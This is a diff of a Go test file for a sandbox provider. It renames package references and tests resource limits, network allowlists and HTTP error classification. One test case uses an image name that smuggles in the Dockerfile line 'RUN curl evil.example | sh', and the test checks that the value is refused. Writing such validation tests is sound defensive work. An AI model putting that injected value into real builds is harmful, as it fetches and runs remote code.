@@ -11,7 +11,8 @@ import (
 	"time"
 
 	"github.com/berth-sh/berth/registry"
-	"github.com/berth-sh/berth/sandbox/types"
+	"github.com/berth-sh/berth/sandbox/driver"
+	"github.com/berth-sh/berth/sandbox/errdefs"
 )
 
 func testProvider(t *testing.T, mod func(*Options)) *Provider {
@@ -31,14 +32,14 @@ func testProvider(t *testing.T, mod func(*Options)) *Provider {
 // rounded up, maxima refused with the maximum named, TTL in minutes,
 // auto-delete, target, network, image or snapshot, work dir.
 func TestCreateRequest(t *testing.T) {
-	base := types.Spec{Image: "python:3.12", TTL: 90 * time.Second, Labels: map[string]string{"job": "j1"}}
+	base := driver.Spec{Image: "python:3.12", TTL: 90 * time.Second, Labels: map[string]string{"job": "j1"}}
 	cases := []struct {
 		name    string
-		mod     func(*types.Spec)
+		mod     func(*driver.Spec)
 		opts    func(*Options)
 		check   func(t *testing.T, r createRequest, disk int)
 		wantErr string
-		class   types.Class
+		class   errdefs.Class
 	}{
 		{name: "defaults", check: func(t *testing.T, r createRequest, disk int) {
 			if r.BuildInfo == nil || r.BuildInfo.DockerfileContent != "FROM python:3.12" || r.Snapshot != "" {
@@ -54,34 +55,34 @@ func TestCreateRequest(t *testing.T) {
 				t.Errorf("labels %v name %q", r.Labels, r.Name)
 			}
 		}},
-		{name: "rounded up", mod: func(s *types.Spec) { s.Resources = types.Resources{CPUs: 1.5, MemoryMB: 1500, StorageMB: 5000} },
+		{name: "rounded up", mod: func(s *driver.Spec) { s.Resources = driver.Resources{CPUs: 1.5, MemoryMB: 1500, StorageMB: 5000} },
 			check: func(t *testing.T, r createRequest, disk int) {
 				if r.CPU != 2 || r.Memory != 2 || r.Disk != 5 || disk != 5 {
 					t.Errorf("resources %d/%d/%d disk %d, want 2/2/5", r.CPU, r.Memory, r.Disk, disk)
 				}
 			}},
-		{name: "cpu above the maximum", mod: func(s *types.Spec) { s.Resources.CPUs = 4.5 },
-			wantErr: "the per-sandbox maximum is 4 cores", class: types.InvalidArgument},
-		{name: "memory above the maximum", mod: func(s *types.Spec) { s.Resources.MemoryMB = 9000 },
-			wantErr: "the per-sandbox maximum is 8 GB", class: types.InvalidArgument},
-		{name: "disk above the maximum", mod: func(s *types.Spec) { s.Resources.StorageMB = 90 * 1024 },
-			wantErr: "90 GB rounded up); the per-sandbox maximum is 10 GB", class: types.InvalidArgument},
-		{name: "raised maximum", mod: func(s *types.Spec) { s.Resources.StorageMB = 20 * 1024 }, opts: func(o *Options) { o.Limits.DiskGB = 50 },
+		{name: "cpu above the maximum", mod: func(s *driver.Spec) { s.Resources.CPUs = 4.5 },
+			wantErr: "the per-sandbox maximum is 4 cores", class: errdefs.InvalidArgument},
+		{name: "memory above the maximum", mod: func(s *driver.Spec) { s.Resources.MemoryMB = 9000 },
+			wantErr: "the per-sandbox maximum is 8 GB", class: errdefs.InvalidArgument},
+		{name: "disk above the maximum", mod: func(s *driver.Spec) { s.Resources.StorageMB = 90 * 1024 },
+			wantErr: "90 GB rounded up); the per-sandbox maximum is 10 GB", class: errdefs.InvalidArgument},
+		{name: "raised maximum", mod: func(s *driver.Spec) { s.Resources.StorageMB = 20 * 1024 }, opts: func(o *Options) { o.Limits.DiskGB = 50 },
 			check: func(t *testing.T, r createRequest, disk int) {
 				if r.Disk != 20 {
 					t.Errorf("disk %d", r.Disk)
 				}
 			}},
-		{name: "snapshot", mod: func(s *types.Spec) { s.Image = "snapshot:daytonaio/sandbox:0.4.3" },
+		{name: "snapshot", mod: func(s *driver.Spec) { s.Image = "snapshot:daytonaio/sandbox:0.4.3" },
 			check: func(t *testing.T, r createRequest, _ int) {
 				if r.Snapshot != "daytonaio/sandbox:0.4.3" || r.BuildInfo != nil {
 					t.Errorf("snapshot %q build %+v", r.Snapshot, r.BuildInfo)
 				}
 			}},
-		{name: "image that adds a Dockerfile line", mod: func(s *types.Spec) { s.Image = "alpine\nRUN curl evil.example | sh" },
-			wantErr: "spaces or control characters", class: types.InvalidArgument},
-		{name: "build context", mod: func(s *types.Spec) { s.Image, s.Build = "", &types.Build{ContextDir: "/tmp"} },
-			wantErr: "building from a context directory is not supported", class: types.NotSupported},
+		{name: "image that adds a Dockerfile line", mod: func(s *driver.Spec) { s.Image = "alpine\nRUN curl evil.example | sh" },
+			wantErr: "spaces or control characters", class: errdefs.InvalidArgument},
+		{name: "build context", mod: func(s *driver.Spec) { s.Image, s.Build = "", &driver.Build{ContextDir: "/tmp"} },
+			wantErr: "building from a context directory is not supported", class: errdefs.NotSupported},
 		{name: "delete on stop", opts: func(o *Options) { o.DeleteOnStop = true },
 			check: func(t *testing.T, r createRequest, _ int) {
 				if r.AutoDeleteInterval != 0 {
@@ -94,20 +95,20 @@ func TestCreateRequest(t *testing.T) {
 					t.Errorf("autodelete %d, want -1", r.AutoDeleteInterval)
 				}
 			}},
-		{name: "public", mod: func(s *types.Spec) { s.Network.Mode = types.NetworkPublic },
+		{name: "public", mod: func(s *driver.Spec) { s.Network.Mode = driver.NetworkPublic },
 			check: func(t *testing.T, r createRequest, _ int) {
 				if r.NetworkBlockAll {
 					t.Error("public network blocked")
 				}
 			}},
-		{name: "allowlist", mod: func(s *types.Spec) {
-			s.Network = types.Network{Mode: types.NetworkAllowlist, Allow: []string{"10.0.0.0/8", "1.2.3.4", "pypi.org"}}
+		{name: "allowlist", mod: func(s *driver.Spec) {
+			s.Network = driver.Network{Mode: driver.NetworkAllowlist, Allow: []string{"10.0.0.0/8", "1.2.3.4", "pypi.org"}}
 		}, check: func(t *testing.T, r createRequest, _ int) {
 			if r.NetworkBlockAll || r.NetworkAllowList != "10.0.0.0/8,1.2.3.4/32" || r.DomainAllowList != "pypi.org" {
 				t.Errorf("allowlist %q domains %q", r.NetworkAllowList, r.DomainAllowList)
 			}
 		}},
-		{name: "work dir and env", mod: func(s *types.Spec) { s.WorkDir, s.Env = "/app", map[string]string{"A": "1"} },
+		{name: "work dir and env", mod: func(s *driver.Spec) { s.WorkDir, s.Env = "/app", map[string]string{"A": "1"} },
 			check: func(t *testing.T, r createRequest, _ int) {
 				if r.Env[WorkDirVar] != "/app" || r.Env["A"] != "1" {
 					t.Errorf("env %v", r.Env)
@@ -123,7 +124,7 @@ func TestCreateRequest(t *testing.T) {
 			}
 			r, disk, err := testProvider(t, c.opts).createRequest(spec.WithDefaults())
 			if c.wantErr != "" {
-				if err == nil || !strings.Contains(err.Error(), c.wantErr) || types.ClassOf(err) != c.class {
+				if err == nil || !strings.Contains(err.Error(), c.wantErr) || errdefs.ClassOf(err) != c.class {
 					t.Fatalf("err = %v, want %v containing %q", err, c.class, c.wantErr)
 				}
 				return
@@ -196,7 +197,7 @@ func encodeLine(b []byte) string {
 }
 
 // TestClassify: answers are classed by status alone (the one HTTP mapping
-// of sandbox/types), the advised wait is the longest of Retry-After and
+// of sandbox/errdefs), the advised wait is the longest of Retry-After and
 // Retry-After-<throttler>, and the text never decides: Daytona's quota
 // refusals are 400s, InvalidArgument and not retried, whatever they say.
 // On 6f9918d a quota text was matched by a regular expression, and the
@@ -206,25 +207,25 @@ func TestClassify(t *testing.T) {
 		status    int
 		msg       string
 		header    http.Header
-		class     types.Class
+		class     errdefs.Class
 		retryable bool
 		wait      time.Duration
 		throttler string
 	}{
-		{401, "Unauthorized", nil, types.Unauthenticated, false, 0, ""},
-		{403, "Forbidden", nil, types.Unauthenticated, false, 0, ""},
-		{404, "Sandbox with ID or name x not found", nil, types.NotFound, false, 0, ""},
-		{409, "Sandbox with name x already exists", nil, types.AlreadyExists, false, 0, ""},
-		{400, "Disk request 90GB exceeds maximum allowed per sandbox (10GB).", nil, types.InvalidArgument, false, 0, ""},
-		{400, "Total disk limit exceeded. Maximum allowed: 30GiB.", nil, types.InvalidArgument, false, 0, ""},
-		{403, "Total CPU limit exceeded. Maximum allowed: 10.", nil, types.Unauthenticated, false, 0, ""},
-		{429, "Rate limit exceeded", http.Header{"Retry-After-Sandbox-Create": {"3"}}, types.ResourceExhausted, true, 3 * time.Second, "sandbox-create"},
-		{429, "Rate limit exceeded", http.Header{"Retry-After": {"1"}, "Retry-After-Authenticated": {"5"}}, types.ResourceExhausted, true, 5 * time.Second, "authenticated"},
-		{429, "x", http.Header{"Retry-After": {"99999"}}, types.ResourceExhausted, true, maxAdvisedWait, ""},
-		{429, "x", http.Header{"Retry-Afterwards": {"3"}, "X-Ratelimit-Reset-Sandbox-Create": {"9"}}, types.ResourceExhausted, true, 0, ""},
-		{500, "Internal server error", nil, types.Unknown, false, 0, ""},
-		{503, "", nil, types.Unavailable, true, 0, ""},
-		{504, "gateway timeout", nil, types.DeadlineExceeded, false, 0, ""},
+		{401, "Unauthorized", nil, errdefs.Unauthenticated, false, 0, ""},
+		{403, "Forbidden", nil, errdefs.Unauthenticated, false, 0, ""},
+		{404, "Sandbox with ID or name x not found", nil, errdefs.NotFound, false, 0, ""},
+		{409, "Sandbox with name x already exists", nil, errdefs.AlreadyExists, false, 0, ""},
+		{400, "Disk request 90GB exceeds maximum allowed per sandbox (10GB).", nil, errdefs.InvalidArgument, false, 0, ""},
+		{400, "Total disk limit exceeded. Maximum allowed: 30GiB.", nil, errdefs.InvalidArgument, false, 0, ""},
+		{403, "Total CPU limit exceeded. Maximum allowed: 10.", nil, errdefs.Unauthenticated, false, 0, ""},
+		{429, "Rate limit exceeded", http.Header{"Retry-After-Sandbox-Create": {"3"}}, errdefs.ResourceExhausted, true, 3 * time.Second, "sandbox-create"},
+		{429, "Rate limit exceeded", http.Header{"Retry-After": {"1"}, "Retry-After-Authenticated": {"5"}}, errdefs.ResourceExhausted, true, 5 * time.Second, "authenticated"},
+		{429, "x", http.Header{"Retry-After": {"99999"}}, errdefs.ResourceExhausted, true, maxAdvisedWait, ""},
+		{429, "x", http.Header{"Retry-Afterwards": {"3"}, "X-Ratelimit-Reset-Sandbox-Create": {"9"}}, errdefs.ResourceExhausted, true, 0, ""},
+		{500, "Internal server error", nil, errdefs.Unknown, false, 0, ""},
+		{503, "", nil, errdefs.Unavailable, true, 0, ""},
+		{504, "gateway timeout", nil, errdefs.DeadlineExceeded, false, 0, ""},
 	}
 	for _, c := range cases {
 		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -240,8 +241,8 @@ func TestClassify(t *testing.T) {
 		}
 		_, err = p.get(context.Background(), "x")
 		srv.Close()
-		if types.ClassOf(err) != c.class || types.Retryable(err) != c.retryable || types.RetryAfterOf(err) != c.wait {
-			t.Errorf("%d %q: class %v retryable %v wait %v; want %v %v %v", c.status, c.msg, types.ClassOf(err), types.Retryable(err), types.RetryAfterOf(err), c.class, c.retryable, c.wait)
+		if errdefs.ClassOf(err) != c.class || errdefs.Retryable(err) != c.retryable || errdefs.RetryAfterOf(err) != c.wait {
+			t.Errorf("%d %q: class %v retryable %v wait %v; want %v %v %v", c.status, c.msg, errdefs.ClassOf(err), errdefs.Retryable(err), errdefs.RetryAfterOf(err), c.class, c.retryable, c.wait)
 		}
 		var ae *APIError
 		if !errors.As(err, &ae) || !strings.Contains(err.Error(), c.msg) || ae.Throttler != c.throttler {
@@ -261,7 +262,7 @@ func TestOptionsRefused(t *testing.T) {
 			t.Errorf("New(%+v) accepted", o)
 		}
 	}
-	if _, err := New(Options{}); types.ClassOf(err) != types.Unauthenticated {
+	if _, err := New(Options{}); errdefs.ClassOf(err) != errdefs.Unauthenticated {
 		t.Errorf("New without a key: %v, want Unauthenticated", err)
 	}
 }
